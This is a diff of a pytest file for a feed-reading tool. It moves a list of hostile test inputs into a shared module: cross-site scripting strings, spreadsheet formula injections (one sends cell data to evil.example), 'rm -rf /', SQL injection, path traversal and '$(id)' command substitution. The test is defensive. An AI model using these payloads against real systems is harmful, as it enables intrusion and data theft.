@@ -6,131 +6,21 @@ import csv
 import io
 import json
 import re
-from collections.abc import Iterator
-from datetime import UTC, datetime
-from html import escape
 from pathlib import Path
 
 import pytest
 from lxml import etree, html
 from markdown_it import MarkdownIt
 
-from flows import stages
 from flows.cli import call
-from flows.feed_list import ListedFeed, write_feed_list
 from flows.project import Project
-from flows.run import Run, running
-from tests.flows.collecting import project_of, rows
-from tests.flows.small_web import Web, response, small_web
-
-NOW = datetime(2026, 3, 5, 12, tzinfo=UTC)
-ESCAPES = "\x1b]0;owned\x07\x1b[2J\x9b31m\r\x08"
-TURNED = "\u202egnp.exe\u2066\u200b\ufeff"
-NASTY = [
-    "<script>alert('run')</script> at the harbour",
-    '"><img src=x onerror=alert(1)> & <svg/onload=alert(2)>',
-    '=HYPERLINK("http://evil.example/?"&A1,"open")',
-    "+cmd|' /C calc'!A0 opens the day",
-    "-2+3+cmd|' /C calc'!A0",
-    "@SUM(1+1)*cmd|' /C calc'!A0",
-    "\t=1+1 behind a tab",
-    "＝1+1 in full width",
-    f"Colours {ESCAPES} of the terminal",
-    f"Report {TURNED} turned round",
-    "[click](javascript:alert(1)) ![pixel](http://evil.example/p.png)",
-    "# Heading\n\n- list\n\n| a | b |\n|---|---|\n\n```sh\nrm -rf /\n```\n---",
-    "'; drop table facts.articles; --",
-    "{{ 7 * 7 }} {% raw %} ${7*7} #{7*7} %s %(x)s {0.__class__} <%= 7 %>",
-    "../../../../etc/passwd\x00.html",
-    "first line\nINFO dateline: all is well\r\nsecond line\u2028third\u2029fourth\x85fifth",
-    "\ud83d\ude00 \U0001f600 a\u0300\u0301\u0302\u0303 ﷽ " + "Z\u0334" * 30,
-    "]]> <!-- --> <?php ?> &lt;b&gt; &amp;amp; &#x3c;",
-    "[bold red]markup[/bold red] [link=http://evil.example]x[/link]",
-    "x" * 3_000,
-]
-UNSAFE = re.compile("[\x00-\x08\x0b-\x1f\x7f-\x9f\u200b\u200e\u200f\u202a-\u202e\u2060-\u2069\ufeff\u2028\u2029]")
-LINKS = [
-    "/{n}?a=%3Cscript%3E&b='\"><i>",
-    "/{n}/../../etc/passwd",
-    "/{n}#javascript:alert(1)",
-    "/{n}/%0d%0aX: y",
-    "/{n}/`id`|$(id)",
-]
-ADDRESS = "http://nasty.example"
-PROSE = "The harbour board of Port Amber met on Tuesday and put off its vote. “We need more time,” said Ada Quill. "
+from tests.flows.collecting import rows
+from tests.flows.strangers import ADDRESS, ESCAPES, NASTY, TURNED, UNSAFE, Nasty, page
 
 
-def illegal_in_xml(text: str) -> str:
-    """With references for what XML forbids: some parsers resolve them."""
-    text = text.encode("utf-16", "surrogatepass").decode("utf-16")
-    return re.sub("[\x00-\x1f\x7f-\x9f]", lambda found: f"&#{ord(found.group())};", escape(text))
-
-
-def feed() -> bytes:
-    items = "".join(
-        f"<item><title>{illegal_in_xml(text)}</title><author>{illegal_in_xml(text)}</author>"
-        f"<link>{escape(ADDRESS + LINKS[number % len(LINKS)].format(n=number))}</link>"
-        f"<guid isPermaLink='false'>{illegal_in_xml(text)}</guid><category>{illegal_in_xml(text)}</category>"
-        f"<description>{illegal_in_xml(escape(text))}</description>"
-        "<pubDate>Wed, 04 Mar 2026 10:00:00 GMT</pubDate></item>"
-        for number, text in enumerate(NASTY)
-    )
-    title = illegal_in_xml(NASTY[8])
-    return f'<rss version="2.0"><channel><title>{title}</title>{items}</channel></rss>'.encode("utf-8", "replace")
-
-
-def page(text: str) -> bytes:
-    """An article in which every place says `text`."""
-    shown = escape(text.encode("utf-16", "surrogatepass").decode("utf-16"))
-    told = json.dumps({"@type": "NewsArticle", "headline": text, "author": {"name": text}}).replace("<", "\\u003c")
-    body = "".join(f"<p>{PROSE * 4} {shown}</p>" for _ in range(5))
-    return (
-        f"<html><head><title>{shown}</title><meta name='author' content='{shown}'><link rel=canonical href='file:///x'>"
-        f"<script type='application/ld+json'>{told}</script></head><body><article><h1>{shown}</h1>"
-        f"{body}</article></body>"
-    ).encode("utf-8", "replace")
-
-
-def answer(web: Web) -> None:
-    """Let the web say all of it."""
-    for number, text in enumerate(NASTY):
-        body = response(body=page(text), headers=("Content-Type: text/html; charset=utf-8",))
-        for link in LINKS:
-            web.answers(link.format(n=number).partition("#")[0], body)
-    web.answers("/feed", response(body=feed(), headers=("Content-Type: application/rss+xml",)))
-    web.answers("/rude", b"HTTP/1.1 503 \x9b31mBusy \xe2\x80\xaeysuB\r\nContent-Length: 0\r\n\r\n")
-    web.answers("/away", response("302 Found", headers=("Location: javascript:\x9b31malert(1)//\xe2\x80\xae",)))
-
-
-class _Everything(dict):  # type: ignore[type-arg]
-    """Answers any path of a number with that number's page: addresses are normalised on their way."""
-
-    def get(self, path: str, default: object = None) -> object:
-        found = re.match(r"/(\d+)\b", path)
-        return self.setdefault(path, dict.get(self, f"/{found[1]}/`id`|$(id)", default) if found else default)
-
-
-@pytest.fixture(scope="module")
-def project(tmp_path_factory: pytest.TempPathFactory) -> Iterator[Project]:
-    """A project after one run over a feed that means harm, its own list of feeds included."""
-    folder = tmp_path_factory.mktemp("nasty") / "project"
-    with small_web() as web:
-        answer(web)
-        web.respond = _Everything(web.respond)
-        made = project_of(folder, workers=1)
-        paths = {"/feed": 8, "/rude": 0, "/away": 12, "/lost": 9, "/also-lost": 15, "/more-lost": 2}
-        listed = [
-            ListedFeed(
-                f"{ADDRESS}{path}", NASTY[title], "nasty.example", folder=NASTY[14], attributes=(("note", NASTY[3]),)
-            )
-            for path, title in paths.items()
-        ]
-        write_feed_list(made.feeds_file, listed)
-        (folder / "dateline.toml").write_text('contact = "tests@dateline.example"\n')
-        run = Run(made, now=lambda: NOW, connect_to={"nasty.example": web.address})
-        with running(run, "run"):
-            stages.whole_run(run, every_feed=True)
-        yield made
+@pytest.fixture
+def project(nasty: Nasty) -> Project:
+    return nasty.project
 
 
 @pytest.fixture
@@ -172,8 +62,8 @@ VIEWS = [
 
 def test_the_run_read_what_the_feed_named(project: Project) -> None:
     assert (
-        rows(project, "select count(*) from entries")[0][0] == len(NASTY) - 3
-    )  # four of its links go up to one address
+        rows(project, "select count(*) from entries")[0][0] == len(NASTY) - 4
+    )  # five of its links go up to one address
     assert rows(project, "select count(*) from articles where body <> ''")[0][0] >= len(NASTY) // 2
 
 
